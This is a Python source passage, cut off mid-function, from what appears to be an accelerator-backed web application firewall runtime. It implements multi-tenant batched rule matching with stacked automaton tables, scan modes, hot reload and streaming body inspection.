            "p50_ms": round(ds[len(ds) // 2], 3),
            "p99_ms": round(ds[min(len(ds) - 1, int(len(ds) * 0.99))], 3),
            "count": len(ds),
        }
    return out
