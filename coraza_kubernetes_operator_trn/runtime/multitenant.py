"""Cross-tenant micro-batched inspection.

One device dispatch serves requests from MANY tenants at once: every
tenant's compiled matcher tables are stacked into one [M_total, S, C]
tensor set per transform-chain group, and each lane carries its own row
index — per-tenant automaton selection happens inside the kernel via the
``lane_matcher`` gather, exactly the mechanism the single-tenant path uses
for per-rule selection. This replaces the reference's per-gateway WASM VMs
(one Coraza instance per Envoy worker, reference: SURVEY.md §3.5) with one
shared device-resident automaton bank (BASELINE.json config #4).

Hot reload: ``set_tenant`` builds a whole new CombinedModel off to the
side and swaps it atomically — in-flight batches finish on the old tables
(the double-buffer analog of the reference's cache-poll + WAF-instance
swap, SURVEY.md §3.4).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher, compile_ruleset
from ..engine.reference import ReferenceWaf, Verdict
from .compile_cache import cached_jit
from ..engine.transaction import HttpRequest, HttpResponse, Transaction
from ..models.waf_model import LANE_PAD, LENGTH_BUCKETS, _bucket_for
from ..ops import automata_jax, bass_compose, bass_screen, transforms_jax
from ..ops.packing import (
    PAD,
    SCAN_MODES,
    build_chunk_symbols,
    build_stream,
    compose_chunk,
    compose_state_budget,
    extract_matcher_values,
    prepare_tables,
    resolve_scan_mode,
    resolve_stride,
    stride_budget,
)

# collections only available once the request body / response was processed
_BODY_COLLECTIONS = {
    "ARGS", "ARGS_POST", "ARGS_NAMES", "ARGS_POST_NAMES", "REQUEST_BODY",
    "FILES", "FILES_NAMES", "FILES_SIZES", "MULTIPART_PART_HEADERS",
    "ARGS_COMBINED_SIZE", "FILES_COMBINED_SIZE", "XML", "JSON",
}
_RESPONSE_COLLECTIONS = {
    "RESPONSE_HEADERS", "RESPONSE_STATUS",
    "RESPONSE_PROTOCOL", "RESPONSE_CONTENT_TYPE",
}
# response BODY variables are populated between phases 3 and 4 (reference
# phase model), so their matchers get their own wave after phase 3 runs
_RESPONSE_BODY_COLLECTIONS = {"RESPONSE_BODY", "RESPONSE_CONTENT_LENGTH"}


def matcher_wave(m: Matcher) -> int:
    """Earliest wave at which all the matcher's targets are populated:
    1 = request line/headers, 2 = +body, 3 = +response headers,
    4 = +response body."""
    wave = 1
    for v in m.variables:
        if v.collection in _RESPONSE_BODY_COLLECTIONS:
            wave = max(wave, 4)
        elif v.collection in _RESPONSE_COLLECTIONS:
            wave = max(wave, 3)
        elif v.collection in _BODY_COLLECTIONS:
            wave = max(wave, 2)
    return wave


@dataclass
class EngineStats:
    requests: int = 0
    batches: int = 0
    device_lanes: int = 0
    device_dispatches: int = 0
    # -- dispatch pipeline (issue/collect) --------------------------------
    # issue rounds that launched device work (one round = one wave-set
    # over one batch; a round may contain many group dispatches)
    dispatch_rounds: int = 0
    # max issued-but-uncollected rounds at any moment: >= 2 proves the
    # pipeline issued a later wave before collecting an earlier one
    issue_inflight_peak: int = 0
    # wave-2 scans issued speculatively before the host phase-1 walk
    speculative_waves: int = 0
    speculative_waves_used: int = 0  # at least one item's bits were used
    # device lanes whose speculative results were discarded (phase-1
    # interruption, ctl:requestBodyProcessor, or allow made them stale)
    speculative_lanes_wasted: int = 0
    gated_rules_skipped: int = 0
    screen_lanes: int = 0  # union-screen lanes dispatched
    lanes_screened_out: int = 0  # matcher lanes the screen made unnecessary
    fast_path_allows: int = 0  # device-only allow verdicts (no host walk)
    fast_path_residual_aborts: int = 0  # residual predicate fired -> walk
    # -- screen-first fast-accept wave ------------------------------------
    # union-screen device dispatches issued as wave 0 ahead of the scan
    # waves, and request-only items resolved to an allow verdict straight
    # off the screen (every wave<=2 gate screen-proven False — the exact
    # condition under which the full-scan path would have fast-allowed)
    screen_dispatches: int = 0
    screen_accepted: int = 0
    # -- multi-stride scanning (ops/packing.compose_stride) ---------------
    # sequential scan steps actually executed (sum over dispatches of
    # ceil(post-transform width / stride)) vs what stride 1 would have
    # cost for the same dispatches — the step-reduction lever
    scan_steps: int = 0
    scan_steps_stride1: int = 0
    # chosen stride -> number of chain groups running at it (a group
    # falls back to 1 when its composed tables blow the size budget)
    stride_groups: dict = field(default_factory=dict)
    # -- compose mode (ops/automata_jax compose_scan*) --------------------
    # sequential depth actually paid by compose-mode dispatches, in
    # composition rounds (chunk folds × (log2-chunk matmul rounds + the
    # state apply)); compose dispatches add the SAME number to scan_steps,
    # so scan_steps stays the cross-mode sequential-depth gauge while
    # compose_rounds isolates the log-depth share
    compose_rounds: int = 0
    # effective scan mode -> number of chain groups running it, ZERO-
    # FILLED for every registered mode (bass_compose falls back to
    # compose off-device, compose to gather over
    # WAF_COMPOSE_STATE_BUDGET; a mode absent from exposition would
    # break bench_compare diffs the moment it first activates)
    mode_groups: dict = field(
        default_factory=lambda: {
            **{m: 0 for m in SCAN_MODES}, "bass_screen": 0})
    # table footprint, in int32 entries: base = padded stride-1 tables,
    # strided = composed stride tables + pair-index levels, padding =
    # waste from the common [M, S_max, C_max] shape (what minimization
    # shrinks — satellite: make padding visible)
    base_table_entries: int = 0
    stride_table_entries: int = 0
    table_padding_entries: int = 0
    # chain groups whose tables are rp-sharded across the mesh's rule
    # axis (parallel/sharded_engine.RpShardContext): each chip holds a
    # 1/rp table slice; such groups scan at stride 1 (stride composition
    # is exactly the blowup that forced sharding)
    rp_sharded_groups: int = 0
    # lane-padding waste: dummy lanes added to round dispatches up to
    # LANE_PAD (batch-shape observability for the autotuner/Metrics)
    lanes_padded: int = 0
    # -- compile/epoch telemetry (flight recorder + Metrics) --------------
    # reason -> count of compile-ish events: "ruleset_text" (SecLang
    # compile in set_tenant), "artifact" (precompiled install),
    # "model_rebuild" (CombinedModel built during a swap), "warmup"
    # (shape-bucket pre-trace pass)
    recompile_total: dict = field(default_factory=dict)
    compile_seconds_total: float = 0.0
    # shape-bucket warmup trace-cache accounting: a (group, L, N) shape
    # already pre-traced on this model is a hit, a new one a miss
    trace_cache_hits: int = 0
    trace_cache_misses: int = 0
    # hot-reload epoch of the live (tenants, model) pair — bumped on
    # every atomic swap; the sharded engine pins placement to epochs
    reload_epoch: int = 0
    # tenant key -> {"error": n, "warning": n, "info": n} waf-lint
    # diagnostic counts (analysis/analyzer.py), refreshed on every tenant
    # swap for tenants installed with set_tenant(..., analyze=True)
    lint_diagnostics: dict = field(default_factory=dict)

    def as_dict(self) -> dict:
        d = self.__dict__.copy()
        d["stride_groups"] = dict(self.stride_groups)
        d["mode_groups"] = dict(self.mode_groups)
        d["recompile_total"] = dict(self.recompile_total)
        d["lint_diagnostics"] = {k: dict(v)
                                 for k, v in self.lint_diagnostics.items()}
        return d


@dataclass
class TenantState:
    key: str
    compiled: CompiledRuleSet
    waf: ReferenceWaf
    waves: dict[int, list[Matcher]]
    # rule_id -> slowest matcher wave (gates close exactly at this wave)
    rule_wave: dict[int, int]
    version: str = ""
    # device-only fast path is sound when all relevant gates closed+False
    # proves the verdict is "allow" without any host phase walk: either
    # every rule is device-gated (gate False has zero false negatives,
    # for prefilter matchers too — they over-approximate), or the
    # remaining always-candidates provably cannot change the verdict
    # under the all-gates-False + all-residuals-False assumption
    # (compiled.fast_allow_safe, compiler/staticfold.py)
    fast_allow_ok: bool = False
    # gated rules that can evaluate on request-only traffic (phase <= 2):
    # the only gates a request-only item needs closed+False to fast-allow
    # (phase-3/4 rules never run without a response, so their gates —
    # which cannot close before the response waves are scanned — are
    # irrelevant to a request-only verdict)
    req_gate_rids: tuple[int, ...] = ()
    # every gated rule whose matchers complete by wave 2 (a superset of
    # req_gate_rids: includes phase-3/4 rules with request-wave
    # matchers). A wave-0 screen accept requires ALL of these gates
    # screen-proven False — exactly the condition under which the full
    # scan path's fast allow would fire with not-any-gate-True, so both
    # paths take identical skips and verdicts stay bit-identical
    screen_gate_rids: tuple[int, ...] = ()
    # wave-0 screen accept is legal for this tenant's request-only
    # traffic: the fast path is sound (fast_allow_ok's condition) AND
    # every phase<=2 gate closes by wave 2 (req_gate_rids is a subset of
    # screen_gate_rids) — the structural preconditions; the per-item
    # all-gates-screen-proven-False check happens at dispatch time
    screen_accept_ok: bool = False
    # chain-head clones of compiled.residual_request, with config macros
    # statically substituted — evaluated directly at fast-path time
    residual_req_rules: tuple = ()
    # waf-lint severity -> count for this tenant's ruleset (None = the
    # tenant was installed without analyze=True)
    lint_counts: dict | None = None

    @classmethod
    def build(cls, key: str, compiled: CompiledRuleSet,
              version: str = "") -> "TenantState":
        import copy
        from dataclasses import replace as dc_replace

        waves: dict[int, list[Matcher]] = {1: [], 2: [], 3: [], 4: []}
        for m in compiled.matchers:
            waves[matcher_wave(m)].append(m)
        rule_wave = {
            rid: max(matcher_wave(compiled.matchers[i]) for i in mids)
            for rid, mids in compiled.gate.items()
        }
        by_id = {r.id: r for r in compiled.ast.rules}
        residual_req = []
        for rid in compiled.residual_request:
            rule = by_id[rid]
            sub = compiled.residual_args.get(rid)
            if sub is not None:
                rule = copy.copy(rule)
                rule.operator = dc_replace(rule.operator, argument=sub)
            residual_req.append(rule)
        return cls(key=key, compiled=compiled,
                   waf=ReferenceWaf(compiled.ast), waves=waves,
                   rule_wave=rule_wave, version=version,
                   fast_allow_ok=(not compiled.always_candidates
                                  or compiled.fast_allow_safe),
                   req_gate_rids=tuple(
                       rid for rid in compiled.gate
                       if by_id[rid].phase <= 2),
                   screen_gate_rids=tuple(
                       rid for rid in compiled.gate
                       if rule_wave[rid] <= 2),
                   screen_accept_ok=(
                       (not compiled.always_candidates
                        or compiled.fast_allow_safe)
                       and all(rule_wave[rid] <= 2
                               for rid in compiled.gate
                               if by_id[rid].phase <= 2)),
                   residual_req_rules=tuple(residual_req))


@dataclass
class _Group:
    """All matchers (across tenants) sharing one transform chain."""

    transforms: tuple[str, ...]
    rows: list[tuple[str, Matcher]]  # (tenant_key, matcher) per table row
    tables: "np.ndarray | None"
    classes: "np.ndarray | None"
    starts: "np.ndarray | None"
    accepts: "np.ndarray | None"
    # tenant_key -> {mid -> row index}
    row_of: dict[str, dict[int, int]] = field(default_factory=dict)
    # union literal screen over the rows' factor sets (compiler/screen.py);
    # None when nothing is screenable
    screen: "object | None" = None
    # row indices with factors=None: always dispatch
    unscreenable: set[int] = field(default_factory=set)
    # stride-composed tables (ops/packing.StridedTables; None = stride 1)
    strided: "object | None" = None
    stride: int = 1
    # stride-composed screen (compiler/screen.StridedScreen); composed
    # independently of the lane tables — the screen may stay at stride 1
    # when its mask-keyed pair classes blow the budget
    screen_strided: "object | None" = None
    # rp-sharded lane runner (parallel/sharded_engine.RpGroupRunner, duck
    # typed: .run(lm, t_sym) -> device finals, .entries). Non-None means
    # this group's tables live sliced across the mesh's rule axis; the
    # union screen stays replicated (small tables, rp=1 lanes policy)
    rp: "object | None" = None
    # table-footprint accounting (EngineStats/Metrics export)
    base_entries: int = 0
    padding_entries: int = 0
    strided_entries: int = 0
    # effective scan mode for THIS group: the model-wide mode, except
    # compose falls back to gather for rp-sharded groups and when S
    # blows WAF_COMPOSE_STATE_BUDGET (S×S maps grow quadratically)
    scan_mode: str = "gather"
    # effective screen kernel for THIS group's union screen:
    # "bass_screen" (hand-scheduled TensorE schedule, ops/bass_screen)
    # when the toolchain/device/budgets admit it, else the JAX gather
    # loop. Resolved per group at model build via
    # bass_screen_fallback_reason, same seam as scan_mode
    screen_mode: str = "screen"


class _ValueProvider:
    """Per-transaction value extraction, memoized by variable-spec tuple.

    Matchers heavily share target specs (ARGS, ARGS|REQUEST_URI, ...);
    caching by spec makes extraction cost O(distinct specs) per request
    instead of O(matchers) — profiling showed eager per-matcher expansion
    dominating host time at ~80 expansions/request."""

    __slots__ = ("tx", "_cache")

    def __init__(self, tx):
        self.tx = tx
        self._cache: dict[tuple, list[bytes]] = {}

    def values(self, matcher: Matcher) -> list[bytes]:
        key = matcher.variables
        got = self._cache.get(key)
        if got is None:
            # extract_matcher_values is the single host/device expansion
            # point — both sides must see identical values
            got = extract_matcher_values(self.tx, matcher)
            self._cache[key] = got
        return got


class StaleStreamState(RuntimeError):
    """Carried stream state no longer matches the live model/placement
    (hot reload or shard move mid-stream). Resuming across incompatible
    tables would be unsound, so callers drop the carry and fall back to
    buffer-only streaming — verdicts are unaffected, the carried scan is
    only ever an early-block trigger."""


def _chunk_streamable(m: Matcher) -> bool:
    """True when the matcher's device lane scans exactly the raw request
    body (every variable is bare REQUEST_BODY): its packed stream is
    BOS + body + EOS, so carried-state chunk scans reproduce it as the
    body arrives. Selector/count/exclude specs and derived collections
    (ARGS, JSON, ...) depend on the COMPLETE parsed body and cannot be
    advanced per chunk."""
    return bool(m.variables) and all(
        v.collection == "REQUEST_BODY" and not v.selector
        and not v.count and not v.exclude for v in m.variables)


@dataclass
class StreamScan:
    """Carried per-(request, group) DFA state across body chunks.

    Produced by ``CombinedModel.stream_open``, advanced by
    ``stream_step``. Holds host-side int32 state vectors for every
    chunk-streamable lane of one tenant — elementwise transform chains
    (ops/transforms_jax.ELEMENTWISE) over bare REQUEST_BODY targets —
    and is pinned to the model that built it: row indexes and tables are
    model-specific, so a hot reload invalidates the carry
    (StaleStreamState).

    The scan is a TRIGGER, not a verdict: accept hits from stream_step
    tell the batcher an exact prefix inspection is worth running now
    (mid-stream early block). A missed or spurious hit never changes any
    verdict — verdicts always come from the buffered-path inspection of
    the accumulated bytes (DEVELOPMENT.md "Streaming inspection")."""

    model: "CombinedModel"
    tenant: str
    # per streamable group: [group index, lane rows int32 [N], carried
    # states int32 [N], accept states int32 [N], mids list] — mutable
    # list entries because stream_step swaps the state vector in place
    lanes: list
    state_bytes: int = 0
    first: bool = True  # next chunk is the stream head (gets BOS)
    hits: set = field(default_factory=set)  # mids already reported
    chunks: int = 0


class CombinedModel:
    """Stacked per-chain-group tables over every tenant's matchers."""

    def __init__(self, tenants: dict[str, TenantState],
                 mode: "str | None" = None, fault_injector=None,
                 scan_stride: "int | str | None" = None,
                 rp_context=None, compile_cache=None, plan=None):
        import jax

        self.mode = resolve_scan_mode(mode)
        # kernel plan (autotune.plan.Plan, duck-typed: .group(key),
        # .compose_chunk, .buckets): per-group stride/mode overrides,
        # compose chunk, shape-bucket ladder. None/empty = env defaults,
        # so the unplanned build path is byte-identical to before.
        self.plan = plan
        self.compose_chunk = compose_chunk(
            override=plan.compose_chunk if plan is not None else None)
        self.buckets: tuple[int, ...] = (
            tuple(plan.buckets) if plan is not None and plan.buckets
            else LENGTH_BUCKETS)
        s_budget = compose_state_budget()
        # chaos hook (runtime/resilience.FaultInjector): device-exception
        # raises out of match_bits_issue exactly like a real device/compile
        # error; device-stall sleeps to simulate a hung scan. None = no-op.
        self.fault = fault_injector
        # persistent on-disk executable cache (runtime/compile_cache).
        # None = plain jax.jit everywhere, bit-identical to pre-cache.
        self.compile_cache = compile_cache
        # shape-bucket warmup trace-cache accounting: (group, L, N)
        # shapes already pre-traced on THIS model are hits (the jit cache
        # key is the shape bucket, so a repeat dispatch recompiles nothing)
        self._shapes_seen: set[tuple[int, int, int]] = set()
        self.warmup_hits = 0
        self.warmup_misses = 0
        self.groups: list[_Group] = []
        by_chain: dict[tuple[str, ...], list[tuple[str, Matcher]]] = {}
        for key, st in tenants.items():
            for m in st.compiled.matchers:
                by_chain.setdefault(m.transforms, []).append((key, m))
        from ..compiler.screen import build_screen, compose_screen_stride

        for transforms, rows in sorted(by_chain.items()):
            gp = (plan.group("|".join(transforms) or "none")
                  if plan is not None else None)
            pt = prepare_tables([m for _, m in rows])
            stride, strided = resolve_stride(
                pt, scan_stride,
                override=gp.stride if gp is not None else None)
            # rp policy (parallel/sharded_engine.RpShardContext): shard a
            # group's tables across the rule axis when they blow the
            # SBUF-derived budget; sharded groups scan at stride 1 —
            # stride composition multiplies the class alphabet, which is
            # exactly the blowup that forced sharding
            rp_runner = None
            if rp_context is not None:
                rp_runner = rp_context.decide(pt, stride, strided,
                                              scan_stride)
                if rp_runner is not None:
                    stride, strided = 1, None
            if gp is not None and gp.mode is not None:
                scan_mode = resolve_scan_mode(override=gp.mode)
            else:
                scan_mode = self.mode
            if scan_mode == "bass_compose" and bass_compose.bass_fallback_reason(
                    pt, p_max=strided.p_max if strided is not None else None,
                    rp_sharded=rp_runner is not None,
                    chunk=self.compose_chunk) is not None:
                scan_mode = "compose"
            if scan_mode == "compose" and (rp_runner is not None
                                           or pt.s_max > s_budget):
                scan_mode = "gather"
            g = _Group(transforms=transforms, rows=rows, tables=pt.tables,
                       classes=pt.classes, starts=pt.starts,
                       accepts=pt.accepts, strided=strided, stride=stride,
                       rp=rp_runner, scan_mode=scan_mode,
                       base_entries=pt.padded_entries,
                       padding_entries=pt.padding_waste,
                       strided_entries=(strided.entries if strided else 0))
            for i, (key, m) in enumerate(rows):
                g.row_of.setdefault(key, {})[m.mid] = i
            g.screen = build_screen(
                [list(m.factors) if m.factors else None for _, m in rows])
            g.unscreenable = {i for i, (_, m) in enumerate(rows)
                              if not m.factors}
            if g.screen is not None and stride > 1:
                g.screen_strided = compose_screen_stride(
                    g.screen, stride, stride_budget())
                if g.screen_strided is not None:
                    g.strided_entries += g.screen_strided.entries
            # per-group screen kernel: plan override, else default to the
            # hand-scheduled BASS schedule whenever it is available —
            # falling back to the JAX gather loop via the same
            # structural/availability policy chain the lane modes use
            # (bass_compose -> compose -> gather above)
            if g.screen is not None:
                want = (gp.screen_mode if gp is not None
                        and getattr(gp, "screen_mode", None) is not None
                        else ("bass_screen"
                              if bass_screen.bass_screen_available()
                              else "screen"))
                if want == "bass_screen":
                    scr_eff = (g.screen_strided if g.screen_strided
                               is not None else g.screen)
                    s_stride = (g.screen_strided.stride
                                if g.screen_strided is not None else 1)
                    if bass_screen.bass_screen_fallback_reason(
                            scr_eff, stride=s_stride,
                            chunk=self.compose_chunk) is not None:
                        want = "screen"
                g.screen_mode = want
            self.groups.append(g)
        # Launch structure (neuronx-cc rejects dynamic loops, long unrolls
        # ICE — see ops/automata_jax.MAX_UNROLL): streams <= MAX_UNROLL
        # run transform+scan as ONE fused program; longer streams dispatch
        # one transform program plus chained MAX_UNROLL-step block
        # programs, all queued asynchronously (np.asarray is the only
        # sync point, in match_bits phase C).
        # every program goes through cached_jit: plain jax.jit when no
        # compile cache is attached (zero behavior change), else a
        # CachedJit that consults WAF_COMPILE_CACHE_DIR before tracing.
        # Tags carry the compose chunk — it is closed over at trace time
        # (not an argument), so programs traced under different
        # WAF_COMPOSE_CHUNK must not share disk entries.
        cc = compile_cache
        ctag = f":c{self.compose_chunk}"
        self._jit_lane = cached_jit(self._lane_forward, cc,
                                    static_argnums=(0, 1),
                                    tag="lane" + ctag)
        self._jit_screen = cached_jit(self._screen_forward, cc,
                                      static_argnums=(0, 1),
                                      tag="screen" + ctag)
        self._jit_transform = cached_jit(self._transform, cc,
                                         static_argnums=(0,),
                                         tag="transform")
        # block (carried-state) programs per effective scan mode — a
        # model mixes at most {self.mode} plus its fallback chain
        # (bass_compose -> compose -> gather); jax.jit is lazy so unused
        # entries cost nothing. compose variants take their chunk as a
        # trailing static arg.
        self._jit_lane_block = {
            "gather": cached_jit(automata_jax.gather_scan_with_state, cc,
                                 tag="lane_block:gather"),
            "matmul": cached_jit(automata_jax.onehot_matmul_scan_with_state,
                                 cc, tag="lane_block:matmul"),
            "compose": cached_jit(automata_jax.compose_scan_with_state, cc,
                                  static_argnums=(5,),
                                  tag="lane_block:compose"),
            "bass_compose": cached_jit(
                bass_compose.bass_compose_scan_with_state, cc,
                static_argnums=(5,), tag="lane_block:bass_compose"),
        }
        # screen block programs per effective screen kernel, mirroring
        # _jit_lane_block: the BASS variants take their chunk as a
        # trailing static arg (it shapes the kernel schedule)
        self._jit_screen_block = {
            "screen": cached_jit(automata_jax.screen_scan_with_state, cc,
                                 tag="screen_block"),
            "bass_screen": cached_jit(
                bass_screen.bass_screen_scan_with_state, cc,
                static_argnums=(6,), tag="screen_block:bass_screen"),
        }
        # stride-k twins (stride is a static arg: the scan structure —
        # gathers per step, fold depth — depends on it)
        self._jit_lane_strided = cached_jit(self._lane_forward_strided, cc,
                                            static_argnums=(0, 1, 2),
                                            tag="lane_strided" + ctag)
        self._jit_screen_strided = cached_jit(
            self._screen_forward_strided, cc, static_argnums=(0, 1, 2),
            tag="screen_strided" + ctag)
        self._jit_lane_block_strided = {
            "gather": cached_jit(
                automata_jax.gather_scan_strided_with_state, cc,
                static_argnums=(6,), tag="lane_block_strided:gather"),
            "matmul": cached_jit(
                automata_jax.onehot_matmul_scan_strided_with_state, cc,
                static_argnums=(6,), tag="lane_block_strided:matmul"),
            "compose": cached_jit(
                automata_jax.compose_scan_strided_with_state, cc,
                static_argnums=(6, 7), tag="lane_block_strided:compose"),
            "bass_compose": cached_jit(
                bass_compose.bass_compose_scan_strided_with_state, cc,
                static_argnums=(6, 7),
                tag="lane_block_strided:bass_compose"),
        }
        self._jit_screen_block_strided = {
            "screen": cached_jit(
                automata_jax.screen_scan_strided_with_state, cc,
                static_argnums=(7,), tag="screen_block_strided"),
            "bass_screen": cached_jit(
                bass_screen.bass_screen_scan_strided_with_state, cc,
                static_argnums=(7, 8),
                tag="screen_block_strided:bass_screen"),
        }
        # concat helpers stay PLAIN jits deliberately: their shape
        # cardinality is unbounded (every distinct lane-count pairing is
        # a new entry), exactly the compile-storm the CONCAT_MIN gate
        # bounds — persisting them would spray the disk cache
        self._jit_concat2d = jax.jit(self._concat2d)
        self._jit_concat1d = jax.jit(self._concat1d)

    def bucket_for(self, max_len: int) -> int:
        """Shape bucket for a packed stream length, under this model's
        (possibly plan-overridden) bucket ladder."""
        return _bucket_for(max_len, self.buckets)

    def group_info(self) -> list[dict]:
        """Per-chain-group stride + table-footprint summary (Metrics and
        bench surface this; entries are int32 counts, x4 for bytes)."""
        return [
            {
                "transforms": "|".join(g.transforms) or "none",
                "matchers": len(g.rows),
                "stride": g.stride,
                "scan_mode": g.scan_mode,
                # sequential depth of one MAX_UNROLL block at this
                # group's (mode, stride): the per-group depth gauge
                "seq_depth_block": (
                    automata_jax.compose_depth(
                        self.MAX_UNROLL, g.stride, self.compose_chunk)
                    if g.scan_mode in ("compose", "bass_compose")
                    else self.MAX_UNROLL // g.stride),
                "rp_sharded": g.rp is not None,
                "screen_stride": (g.screen_strided.stride
                                  if g.screen_strided else
                                  (1 if g.screen is not None else 0)),
                "screen_mode": (g.screen_mode
                                if g.screen is not None else None),
                "base_table_entries": g.base_entries,
                "table_padding_entries": g.padding_entries,
                "stride_table_entries": g.strided_entries,
            }
            for g in self.groups
        ]

    @staticmethod
    def _concat2d(arrs):
        """Pad the W axis to a common width and stack on device: N device
        results become ONE array so the host pays one fetch round trip
        (~90ms through the tunnel) instead of N."""
        import jax.numpy as jnp

        w = max(a.shape[1] for a in arrs)
        return jnp.concatenate(
            [jnp.pad(a, ((0, 0), (0, w - a.shape[1]))) for a in arrs],
            axis=0)

    @staticmethod
    def _concat1d(arrs):
        import jax.numpy as jnp

        return jnp.concatenate(list(arrs), axis=0)

    # Below this many device arrays, fetch directly: the concat helpers
    # are jitted per input-shape TUPLE, so high-cardinality shape combos
    # (lane counts vary with screening results) could trade one ~90ms
    # sync for a multi-minute neuronx-cc compile. With >=3 arrays the
    # saved round trips win and shapes in practice are the stable
    # full-batch sizes.
    CONCAT_MIN = 3

    def _fetch_all_2d(self, arrs: list) -> list[np.ndarray]:
        """One round trip for many [N_i, W_i] device arrays."""
        if len(arrs) < self.CONCAT_MIN:
            return [np.asarray(a) for a in arrs]
        widths = [a.shape[1] for a in arrs]
        combined = np.asarray(self._jit_concat2d(tuple(arrs)))
        out = []
        off = 0
        for a, w in zip(arrs, widths):
            out.append(combined[off:off + a.shape[0], :w])
            off += a.shape[0]
        return out

    def _fetch_all_1d(self, arrs: list) -> list[np.ndarray]:
        if len(arrs) < self.CONCAT_MIN:
            return [np.asarray(a) for a in arrs]
        combined = np.asarray(self._jit_concat1d(tuple(arrs)))
        out = []
        off = 0
        for a in arrs:
            out.append(combined[off:off + a.shape[0]])
            off += a.shape[0]
        return out

    @staticmethod
    def _transform(transforms, symbols):
        import jax.numpy as jnp

        sym = transforms_jax.apply_chain(symbols, transforms)
        # Expanding transforms (utf8tounicode: 3x) widen the stream, and
        # block programs scan fixed MAX_UNROLL windows — pad the
        # post-transform width to a block multiple with PAD, which has an
        # identity class column in every table (scan no-op).
        pad = -sym.shape[1] % automata_jax.MAX_UNROLL
        if pad:
            sym = jnp.pad(sym, ((0, 0), (0, pad)), constant_values=PAD)
        return sym

    def _lane_forward(self, transforms, mode, tables, classes, starts,
                      lane_matcher, symbols):
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "matmul":
            return automata_jax.onehot_matmul_scan(
                tables, classes, starts, lane_matcher, sym)
        if mode == "compose":
            return automata_jax.compose_scan(
                tables, classes, starts, lane_matcher, sym,
                chunk=self.compose_chunk)
        if mode == "bass_compose":
            return bass_compose.bass_compose_scan(
                tables, classes, starts, lane_matcher, sym,
                chunk=self.compose_chunk)
        return automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, sym)

    def _lane_forward_strided(self, transforms, mode, stride, tables,
                              levels, classes, starts, lane_matcher,
                              symbols):
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "matmul":
            return automata_jax.onehot_matmul_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym, stride)
        if mode == "compose":
            return automata_jax.compose_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym,
                stride, chunk=self.compose_chunk)
        if mode == "bass_compose":
            return bass_compose.bass_compose_scan_strided(
                tables, levels, classes, starts, lane_matcher, sym,
                stride, chunk=self.compose_chunk)
        return automata_jax.gather_scan_strided(
            tables, levels, classes, starts, lane_matcher, sym, stride)

    def _screen_forward(self, transforms, mode, table, classes, masks,
                        symbols):
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "bass_screen":
            return bass_screen.bass_fused_screen_scan(
                table, classes, masks, sym, chunk=self.compose_chunk)
        return automata_jax.fused_screen_scan(table, classes, masks, sym)

    def _screen_forward_strided(self, transforms, mode, stride, table,
                                levels, classes, masks2, symbols):
        sym = transforms_jax.apply_chain(symbols, transforms)
        if mode == "bass_screen":
            return bass_screen.bass_fused_screen_scan_strided(
                table, levels, classes, masks2, sym, stride,
                chunk=self.compose_chunk)
        return automata_jax.fused_screen_scan_strided(
            table, levels, classes, masks2, sym, stride)

    MAX_UNROLL = automata_jax.MAX_UNROLL
    # Per-program lane cap. Lane-parallel gathers/scatters emit one DMA
    # instance per lane per step, and walrus accumulates instance counts
    # into a 16-bit semaphore_wait_value; ~2048-lane programs overflow it
    # (ICE NCC_IXCG967 "bound check failure assigning 65540 to 16-bit
    # field", BENCH_r01). 512 lanes is the empirically-validated budget —
    # same class of limit as MAX_UNROLL. Bigger batches chunk into
    # multiple launches of ONE compiled shape (launches ~3ms async; the
    # sync count is unchanged, so throughput is unaffected).
    MAX_LANES = 512

    def _chunk_lanes(self, sym: np.ndarray, run_chunk, concat):
        """Pad the lane axis to a MAX_LANES multiple, run run_chunk(lo, hi)
        per chunk, and concat the device results (no syncs)."""
        M = self.MAX_LANES
        pad = -sym.shape[0] % M
        if pad:
            sym = np.pad(sym, ((0, pad), (0, 0)), constant_values=PAD)
        chunks = tuple(run_chunk(sym, o, o + M)
                       for o in range(0, sym.shape[0], M))
        return concat(chunks)

    def _run_lane_scan(self, g: _Group, lm: np.ndarray, sym: np.ndarray):
        """Dispatch the lane scan, chunking the lane axis to MAX_LANES;
        returns the device array of final states WITHOUT syncing."""
        if sym.shape[0] <= self.MAX_LANES:
            return self._lane_scan_one(g, lm, sym)
        lm = np.pad(lm, (0, -lm.shape[0] % self.MAX_LANES))
        return self._chunk_lanes(
            sym, lambda s, lo, hi: self._lane_scan_one(g, lm[lo:hi],
                                                       s[lo:hi]),
            self._jit_concat1d)

    def _lane_scan_one(self, g: _Group, lm: np.ndarray, sym: np.ndarray):
        if g.rp is not None:
            # rp-sharded group: transform on the default device, then the
            # shard_map lane scan over the chip row's rule axis (each
            # device scans against only its resident table slice)
            return g.rp.run(lm, self._jit_transform(g.transforms, sym))
        # unroll budget is on the POST-transform width: an expanding chain
        # (utf8tounicode -> 3x) can push a fused program past MAX_UNROLL
        # even when the input fits
        exp = transforms_jax.chain_expansion(g.transforms)
        mode = g.scan_mode
        if g.stride > 1:
            st = g.strided
            if sym.shape[1] * exp <= self.MAX_UNROLL:
                return self._jit_lane_strided(
                    g.transforms, mode, g.stride, st.tables, st.levels,
                    g.classes, g.starts, lm, sym)
            # chained blocks: MAX_UNROLL is a multiple of every supported
            # stride, so each block consumes whole k-symbol steps
            t_sym = self._jit_transform(g.transforms, sym)
            return self._scan_blocks(g, lm, t_sym, g.starts[lm])
        if sym.shape[1] * exp <= self.MAX_UNROLL:
            return self._jit_lane(g.transforms, mode, g.tables, g.classes,
                                  g.starts, lm, sym)
        t_sym = self._jit_transform(g.transforms, sym)
        return self._scan_blocks(g, lm, t_sym, g.starts[lm])

    def _scan_blocks(self, g: _Group, lm: np.ndarray, t_sym, states):
        """Chain MAX_UNROLL-step carried-state block programs over a
        POST-transform, block-multiple-width symbol array, starting from
        ``states`` (host or device [N] int32) — the one place automaton
        state threads across scan launches. Both the long-stream path
        above and the streaming chunk path (stream_step) resume through
        here, so chunk scans are the exact same programs as buffered
        scans. Returns the device final states WITHOUT syncing."""
        W = t_sym.shape[1]
        B = self.MAX_UNROLL
        mode = g.scan_mode
        if g.stride > 1:
            st = g.strided
            block = self._jit_lane_block_strided[mode]
            for c in range(W // B):
                if mode in ("compose", "bass_compose"):
                    states = block(
                        st.tables, st.levels, g.classes, lm,
